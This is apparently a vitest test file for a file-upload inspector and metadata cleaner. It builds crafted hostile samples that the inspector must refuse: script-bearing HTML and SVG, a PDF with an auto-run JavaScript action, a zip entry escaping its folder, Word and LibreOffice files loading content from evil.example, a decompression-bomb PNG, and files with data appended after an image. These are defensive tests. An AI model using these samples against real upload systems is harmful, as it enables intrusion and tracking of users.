import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { cleanFile } from './clean.ts';
import { inspectFile } from './inspect.ts';
import { madePdf } from './pdf/made-pdf.ts';

const TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const office = (more: Record<string, string | Uint8Array> = {}) => zipSync(Object.fromEntries(Object.entries({ '[Content_Types].xml': TYPES, 'word/document.xml': '<w:document/>', ...more }).map(([name, content]) => [name, typeof content === 'string' ? strToU8(content) : content])));
const picture = () => sharp({ create: { width: 8, height: 8, channels: 3, background: 'teal' } });
const latinBytes = (words: string) => [...words].map((sign) => sign.charCodeAt(0));
const opendocument = (more: Record<string, string>) => zipSync({ mimetype: [strToU8('application/vnd.oasis.opendocument.text'), { level: 0 }], ...Object.fromEntries(Object.entries({ 'content.xml': '<office:document-content/>', ...more }).map(([name, words]) => [name, strToU8(words)])) });
const after = async (picture: Promise<Uint8Array>, words: string) => Uint8Array.from([...(await picture), ...strToU8(words)]);
const frames = (count: number) => sharp(Buffer.alloc(8 * 8 * count * 3, 1).map((_, at) => (at * 7) % 255), { raw: { width: 8, height: 8 * count, channels: 3, pageHeight: 8 } });
const mp3 = (before: number[] = []) => Uint8Array.from([...before, ...Array.from({ length: 3 }, () => [0xff, 0xfb, 0x90, 0x64, ...new Uint8Array(413)]).flat()]);
const ID3 = [...latinBytes('ID3'), 3, 0, 0, 0, 0, 0, 22, ...latinBytes('TPE1'), 0, 0, 0, 12, 0, 0, 0, ...latinBytes('Jane Smith'), 0];
const EXIF = { IFD0: { Artist: 'Jane' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 0/1 0/1' } };

const GOOD: [string, () => Promise<Uint8Array> | Uint8Array][] = [
  ['card.png', () => picture().png().toBuffer()],
  ['card.jpg', () => picture().jpeg().toBuffer()],
  ['card.webp', () => picture().webp().toBuffer()],
  ['plan.pdf', () => madePdf()],
  ['plan.docx', () => office()],
  ['card.gif', () => picture().gif().toBuffer()],
  ['card.avif', () => picture().avif().toBuffer()],
  ['talk.mp3', () => mp3()],
  ['plan.odt', () => opendocument({ 'meta.xml': '<meta:initial-creator></meta:initial-creator><dc:creator/>' })],
  ['plan-2.docx', () => office({ 'docProps/core.xml': '<dc:creator></dc:creator>' })],
];

test.each(GOOD)('%s may be shared', async (name, make) => {
  expect(await inspectFile({ name, bytes: new Uint8Array(await make()) })).toEqual([]);
});

const BAD: [string, string, () => Promise<Uint8Array> | Uint8Array][] = [
  ['a page of HTML called a picture', 'card.jpg', () => strToU8('<html><script>alert(1)</script></html>')],
  ['a PNG called JPG', 'card.jpg', () => picture().png().toBuffer()],
  ['HTML called PDF', 'plan.pdf', () => strToU8('<html></html>')],
  ['a drawing that can run', 'card.svg', () => strToU8('<svg onload="alert(1)"/>')],
  ['a page', 'page.html', () => strToU8('<html/>')],
  ['a program', 'run.js', () => strToU8('alert(1)')],
  ['a phone’s own kind of picture', 'photo.heic', () => strToU8('x')],
  ['an old Word file', 'plan.doc', () => strToU8('x')],
  ['a Word file for macros', 'plan.docm', () => office()],
  ['an empty file', 'plan.pdf', () => new Uint8Array()],
  ['a picture of 9 MB', 'card.png', () => new Uint8Array(9_000_000)],
  ['a photograph with its place', 'photo.jpg', () => picture().jpeg().withExif(EXIF).toBuffer()],
  ['a PNG with notes', 'photo.png', () => picture().png().withExif(EXIF).toBuffer()],
  ['a WebP with notes', 'photo.webp', () => picture().webp().withExif(EXIF).toBuffer()],
  ['a PDF that runs', 'plan.pdf', () => madePdf({ catalog: '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>' })],
  ['a PDF that is locked', 'plan.pdf', () => madePdf({ trailer: '/Encrypt<<>>' })],
  ['a PDF that names its author', 'plan.pdf', () => madePdf({ info: '/Author(Jane Example)' })],
  ['a PDF that is cut off', 'plan.pdf', () => strToU8('%PDF-1.4\n')],
  ['a Word file that is locked', 'plan.docx', () => Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Uint8Array(600)])],
  ['a Word file with macros', 'plan.docx', () => office({ 'word/vbaProject.bin': 'x' })],
  ['a Word file with another in it', 'plan.docx', () => office({ 'word/embeddings/a.bin': 'x' })],
  ['a Word file with controls', 'plan.docx', () => office({ 'word/activeX/a.xml': 'x' })],
  ['a Word file that loads its template', 'plan.docx', () => office({ 'word/_rels/settings.xml.rels': '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>' })],
  ['a Word file that would write elsewhere', 'plan.docx', () => office({ '../../netlify.toml': 'x' })],
  ['a Word file far larger inside', 'plan.docx', () => office({ 'word/big.xml': new Uint8Array(101_000_000) })],
  ['a Word file that names its author', 'plan.docx', () => office({ 'docProps/core.xml': '<dc:creator>Jane Example</dc:creator>' })],
  ['a PDF with another file behind it', 'plan.pdf', () => Uint8Array.from([...madePdf(), ...zipSync({ 'a.txt': strToU8('x') })])],
  ['a picture with a page behind it', 'card.png', () => after(picture().png().toBuffer(), '<script>alert(1)</script>')],
  ['a photograph with an archive behind it', 'card.jpg', () => after(picture().jpeg().toBuffer(), 'PK')],
  ['a picture that moves', 'card.gif', () => frames(3).gif().toBuffer()],
  ['a WebP that moves', 'card.webp', () => frames(3).webp().toBuffer()],
  ['an AVIF with notes', 'card.avif', () => picture().avif().withExif(EXIF).toBuffer()],
  ['a picture that is a bomb', 'card.png', async () => { const bytes = new Uint8Array(await picture().png().toBuffer()); new DataView(bytes.buffer).setUint32(16, 30_000); new DataView(bytes.buffer).setUint32(20, 30_000); return bytes; }],
  ['a picture that is cut off', 'card.jpg', async () => (await picture().jpeg().toBuffer()).subarray(0, 60)],
  ['a recording that names who speaks', 'talk.mp3', () => mp3(ID3)],
  ['a LibreOffice file that names who printed it', 'plan.odt', () => opendocument({ 'meta.xml': '<meta:printed-by>Jane Example</meta:printed-by>' })],
  ['a LibreOffice file with somebody’s comment', 'plan.odt', () => opendocument({ 'content.xml': '<office:annotation><dc:creator>Jane Example</dc:creator></office:annotation>' })],
  ['a LibreOffice file with macros', 'plan.odt', () => opendocument({ 'Basic/Standard/Module1.xml': '<x/>' })],
  ['a LibreOffice file that is locked', 'plan.odt', () => opendocument({ 'META-INF/manifest.xml': '<manifest:encryption-data/>' })],
  ['a LibreOffice file that loads a picture from elsewhere', 'plan.odt', () => opendocument({ 'content.xml': '<draw:image xlink:href="https://evil.example/spy.png"/>' })],
  ['a Word file that names its author in UTF-16', 'plan.docx', () => office({ 'docProps/core.xml': Uint8Array.from([0xff, 0xfe, ...[...'<dc:creator>Jane</dc:creator>'].flatMap((sign) => [sign.charCodeAt(0), 0])]) })],
  ['a Word file that names people in its own facts', 'plan.docx', () => office({ 'docProps/custom.xml': '<property name="Checked by"><vt:lpwstr>Jane Example</vt:lpwstr></property>' })],
  ['a Word file with a photograph that tells its place', 'plan.docx', async () => office({ 'word/media/image1.jpeg': new Uint8Array(await picture().jpeg().withExif(EXIF).toBuffer()) })],
  ['a Word file with a name in it twice', 'plan.docx', () => office({ 'WORD/document.xml': 'x' })],
  ['a workbook that says on whose computer it lay', 'plan.xlsx', () => zipSync({ '[Content_Types].xml': strToU8(TYPES.replaceAll('/word/document.xml', '/xl/workbook.xml').replace('wordprocessingml.document', 'spreadsheetml.sheet')), 'xl/workbook.xml': strToU8('<x15ac:absPath url="C:\\Users\\jane\\"/>') })],
  ['a Word file with somebody’s comment', 'plan.docx', () => office({ 'word/comments.xml': '<w:comment w:author="Jane Example" w:initials="JE"/>' })],
];

test.each(BAD)('%s is refused, with what to do', async (_, name, make) => {
  const faults = await inspectFile({ name, bytes: new Uint8Array(await make()) });
  expect(faults.map(({ what, why, remedy }) => `${what} ${why} → ${remedy}`)).toMatchSnapshot();
  expect(faults).toHaveLength(1);
});

describe('a document that was cleaned', () => {
  test('keeps its words and its pictures, and forgets people, places and its template', async () => {
    const photo = new Uint8Array(await picture().jpeg().withExif(EXIF).toBuffer());
    const bytes = office({
      'docProps/core.xml': '<cp:coreProperties><dc:title>Plan</dc:title><dc:creator xml:lang="en">Jane <![CDATA[Example]]></dc:creator><cp:lastModifiedBy>Jane Example</cp:lastModifiedBy></cp:coreProperties>',
      'docProps/app.xml': '<Properties><Manager>Jane Example</Manager><Company>Jane Ltd</Company></Properties>',
      'docProps/custom.xml': '<property name="By"><vt:lpwstr>Jane Example</vt:lpwstr></property>',
      'word/document.xml': '<w:document><w:ins w:id="1" w:author="Jane Example"><w:t>Words of Jane</w:t></w:ins></w:document>',
      'word/header1.xml': '<w:hdr><w:del w:author="Jane Example"/></w:hdr>',
      'word/people.xml': '<w15:people><w15:person w15:author="Jane Example"><w15:presenceInfo w15:providerId="AD" w15:userId="S::jane@oak.example"/></w15:person></w15:people>',
      'word/settings.xml': '<w:settings><w:attachedTemplate r:id="rId1"/><w:zoom/></w:settings>',
      'word/_rels/settings.xml.rels': '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:/Users/jane/t.dotx" TargetMode="External"/></Relationships>',
      'word/media/image1.jpeg': photo,
    });
    const clean = (await cleanFile({ name: 'plan.docx', bytes })).bytes;
    expect(await inspectFile({ name: 'plan.docx', bytes: clean })).toEqual([]);
    const pieces = unzipSync(clean);
    const { 'word/media/image1.jpeg': cleaned, ...texts } = pieces;
    expect(Object.fromEntries(Object.entries(texts).filter(([name]) => name !== '[Content_Types].xml').map(([name, piece]) => [name, strFromU8(piece)]))).toMatchSnapshot();
    const pixels = (jpeg: Uint8Array) => sharp(jpeg).raw().toBuffer();
    expect([(await sharp(cleaned).metadata()).exif, await pixels(cleaned!)]).toEqual([undefined, await pixels(photo)]);
  });

  test('of LibreOffice still says first and unpacked what it is', async () => {
    const bytes = opendocument({ 'meta.xml': '<meta:initial-creator>Jane</meta:initial-creator><dc:creator>Jane</dc:creator><meta:printed-by>Jane</meta:printed-by><dc:title>Plan</dc:title>', 'content.xml': '<office:annotation><dc:creator>Jane</dc:creator><meta:creator-initials>J</meta:creator-initials><text:p>Nice</text:p></office:annotation><text:author-name>Jane</text:author-name>' });
    const clean = (await cleanFile({ name: 'plan.odt', bytes })).bytes;
    expect(await inspectFile({ name: 'plan.odt', bytes: clean })).toEqual([]);
    expect(strFromU8(clean.subarray(30, 85), true)).toContain('mimetypeapplication/vnd.oasis.opendocument.text');
    const { 'meta.xml': meta, 'content.xml': words } = unzipSync(clean);
    expect(strFromU8(meta!) + strFromU8(words!)).toBe('<meta:initial-creator></meta:initial-creator><dc:creator></dc:creator><meta:printed-by></meta:printed-by><dc:title>Plan</dc:title><office:annotation><dc:creator></dc:creator><meta:creator-initials></meta:creator-initials><text:p>Nice</text:p></office:annotation><text:author-name></text:author-name>');
  });

  test('of sound is the same sound without its tags', async () => {
    expect((await cleanFile({ name: 'talk.mp3', bytes: mp3(ID3) })).bytes).toEqual(mp3());
  });

  test('names nobody any more, and is the same document otherwise', async () => {
    const bytes = office({ 'docProps/core.xml': '<dc:creator>Jane Example</dc:creator>', 'docProps/app.xml': '<Company>Acme</Company>', 'word/comments.xml': '<w:comment w:author="Jane Example" w:initials="JE"/>', 'word/document.xml': '<w:p w:name="Heading">Words</w:p>' });
    const clean = await cleanFile({ name: 'plan.docx', bytes });
    expect(await inspectFile({ name: 'plan.docx', bytes: clean.bytes })).toEqual([]);
    expect((await cleanFile({ name: 'plan.docx', bytes: clean.bytes })).bytes).toEqual(clean.bytes);
  });
});
